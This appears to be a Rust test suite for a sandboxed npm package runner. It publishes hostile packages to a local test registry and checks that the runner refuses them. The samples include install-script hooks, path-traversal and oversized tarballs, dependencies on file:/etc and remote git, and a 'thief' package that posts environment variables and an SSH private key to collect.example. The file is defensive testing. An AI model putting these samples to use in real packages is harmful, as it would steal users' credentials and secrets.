//! A registry, and packages in it, that are made to do harm. What counts is what did not
//! happen: nothing of a package asked the registry for its marker, nobody else was asked,
//! and the home is as it was.

use crate::npm::Shop;
use crate::program::Done;
use crate::registry::{Answer, Npm, Registry, integrity, tarball};
use serde_json::json;
use std::process::Command;

/// What every package here would run if anybody let it: it asks the registry, which is the
/// one place that the jail of the client can reach.
fn marks(shop: &Shop) -> String {
    let url = shop.registry.url("/marker");
    format!(
        "node -e \"require('http').get('{url}'); require('fs').writeFileSync('/var/tmp/marker', '')\""
    )
}

/// Refused, with nothing run and nothing kept.
fn refused(shop: &Shop, done: &Done, code: i32, why: &str) {
    assert_eq!(done.code, Some(code), "{done:?}");
    let said = done.stderr.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains(why), "{done:?}");
    assert!(!shop.registry.asked().iter().any(|path| path == "/marker"), "it ran");
    assert!(shop.is_empty(), "something was kept");
    assert!(!done.stdout.contains("ran"), "{done:?}");
}

#[test]
fn no_script_of_a_package_runs_when_it_is_fetched() {
    let shop = Shop::new();
    let marks = marks(&shop);
    let scripts = json!({
        "preinstall": marks, "install": marks, "postinstall": marks, "prepare": marks,
        "prepublish": marks, "preprepare": marks,
    });
    let needs = json!({ "inner": "*" });
    let scripted =
        |name: &str| Npm::new(name, "console.log('only this')").with("scripts", scripts.clone());
    shop.registry.publish(&scripted("tool").with("dependencies", needs));
    shop.registry.publish(&scripted("inner"));
    // The control: npm itself, as most people call it, runs them.
    let folder = shop.user.path("control");
    std::fs::create_dir(&folder).unwrap();
    let npm = Command::new("npm")
        .args(["install", "--no-audit", "--no-fund", "--cache"])
        .arg(shop.user.path("cache"))
        .args(["--registry", &shop.registry.url("/"), "tool"])
        .current_dir(&folder)
        .output()
        .unwrap();
    assert!(npm.status.success(), "{npm:?}");
    let ran = |shop: &Shop| shop.registry.asked().iter().filter(|path| *path == "/marker").count();
    let control = ran(&shop);
    assert!(control > 0, "{:?}", shop.registry.asked());
    let done = shop.run(&["run", "--despite-findings", "npm:tool"]);
    assert_eq!((done.code, done.stdout.as_str()), (Some(0), "only this\n"), "{done:?}");
    assert_eq!(ran(&shop), control, "a script of the package ran");
}

#[test]
fn an_archive_that_has_another_hash_is_refused() {
    let shop = Shop::new();
    let package = Npm::new("tool", "console.log('ran')");
    let archive = tarball(&package.files());
    shop.registry.publish_as(&package, &archive, &integrity(b"another one"));
    refused(&shop, &shop.run(&["run", "npm:tool"]), 2, "EINTEGRITY");
}

#[test]
fn an_archive_without_a_strong_hash_is_refused() {
    let shop = Shop::new();
    let package = Npm::new("tool", "console.log('ran')");
    let archive = tarball(&package.files());
    shop.registry.publish_as(&package, &archive, "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=");
    refused(&shop, &shop.run(&["run", "npm:tool"]), 9, "no SHA-512");
}

#[test]
fn the_archive_of_another_package_or_version_is_refused() {
    for (name, version) in [("other", "1.2.3"), ("tool", "1.2.4")] {
        let shop = Shop::new();
        let package = Npm::new("tool", "console.log('ran')");
        let swapped = Npm { version: version.to_owned(), ..Npm::new(name, "console.log('ran')") };
        let archive = tarball(&swapped.files());
        shop.registry.publish_as(&package, &archive, &integrity(&archive));
        let why = format!("its archive says that it is `{name}@{version}`");
        refused(&shop, &shop.run(&["run", "npm:tool"]), 9, &why);
    }
}

#[test]
fn an_archive_that_climbs_out_repeats_a_name_or_bursts_is_refused() {
    let long = vec![b'\n'; 40 << 20];
    for (path, bytes, why) in [
        ("package/../../../escaped.js", b"ran".as_slice(), "climbs with two dots"),
        ("/escaped.js", b"ran", "begins at the root"),
        ("package/index.js", b"console.log('ran too')", "two files have this path"),
        ("package/INDEX.js", b"console.log('ran')", "same path but for upper and lower case"),
        ("package/long.js", &long, "unpacks to more bytes"),
    ] {
        let shop = Shop::new();
        let package = Npm::new("tool", "console.log('ran')");
        let mut files = package.files();
        files.push((path.to_owned(), bytes.to_vec()));
        let archive = tarball(&files);
        shop.registry.publish_as(&package, &archive, &integrity(&archive));
        refused(&shop, &shop.run(&["run", "npm:tool"]), 9, why);
    }
}

#[test]
fn what_depends_on_an_address_a_repository_or_a_folder_is_refused() {
    let elsewhere = Registry::new();
    let inner = tarball(&Npm::new("inner", "").files());
    elsewhere.answer("/inner.tgz", Answer::Body(inner));
    for where_from in [
        elsewhere.url("/inner.tgz"),
        format!("git+{}", elsewhere.url("/inner.git")),
        "file:/etc".to_owned(),
        "file:../../..".to_owned(),
        "git+ssh://git@127.0.0.1/inner.git".to_owned(),
    ] {
        let shop = Shop::new();
        let needs = json!({ "inner": where_from });
        shop.registry.publish(&Npm::new("tool", "console.log('ran')").with("dependencies", needs));
        let done = shop.run(&["run", "npm:tool"]);
        assert!(matches!(done.code, Some(2 | 3 | 9)), "{where_from}: {done:?}");
        println!("{}", done.stderr);
        refused(&shop, &done, done.code.unwrap(), "npm could not fetch");
    }
    assert!(elsewhere.asked().is_empty(), "{:?}", elsewhere.asked());
}

#[test]
fn an_archive_that_leads_elsewhere_is_not_followed() {
    let (shop, inside) = (Shop::new(), Registry::new());
    let package = Npm::new("tool", "console.log('ran')");
    let archive = tarball(&package.files());
    inside.answer("/secret.tgz", Answer::Body(archive.clone()));
    shop.registry.publish_as(&package, &archive, &integrity(&archive));
    shop.registry.answer("/tool/-/x-1.2.3.tgz", Answer::Redirect(inside.url("/secret.tgz")));
    let done = shop.run(&["run", "npm:tool"]);
    refused(&shop, &done, 2, "/secret.tgz failed");
    assert!(inside.asked().is_empty(), "the machine beside it was asked: {:?}", inside.asked());
}

#[test]
fn a_registry_that_never_ends_its_answer_is_left_in_time() {
    let shop = Shop::new();
    shop.registry.answer("/tool", Answer::Drip);
    let done = shop.run(&["run", "--fetch-timeout", "3", "npm:tool"]);
    refused(&shop, &done, 5, "stopped after 3 s");
}

#[test]
fn code_that_steals_is_refused_before_it_runs_and_runs_only_for_who_insists() {
    let shop = Shop::new();
    let code = "console.log('ran');\n\
        const http = require('http');\n\
        const body = JSON.stringify(process.env) + require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n\
        const out = http.request({ host: 'collect.example', method: 'POST' });\n\
        out.write(body); out.end();\n";
    shop.registry.publish(&Npm::new("thief", code));
    let done = shop.run(&["run", "npm:thief"]);
    refused(&shop, &done, 9, "its code scores");
    assert!(done.stderr.contains("ringfence scan"), "{done:?}");
    let kinds = shop.user.kinds();
    assert!(kinds.contains(&"refused".to_owned()), "{kinds:?}");
    let done = shop.run(&["run", "--despite-findings", "npm:thief"]);
    assert!(done.stdout.contains("ran"), "{done:?}");
}
